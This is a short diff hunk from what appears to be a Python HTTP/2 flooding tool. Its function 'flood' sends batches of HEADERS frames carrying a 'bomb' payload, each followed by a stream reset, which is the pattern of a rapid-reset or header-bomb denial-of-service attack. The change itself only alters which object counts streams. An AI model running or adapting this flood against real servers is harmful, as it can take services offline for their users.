@@ -25,4 +25,4 @@ def flood(target, connection):
             out += (wire.frame(wire.HEADERS, wire.END_HEADERS, stream, bomb),
                     wire.rst_stream(stream))
         connection.send(b"".join(out))
-        target.count("streams", BATCH)
+        connection.count("streams", BATCH)
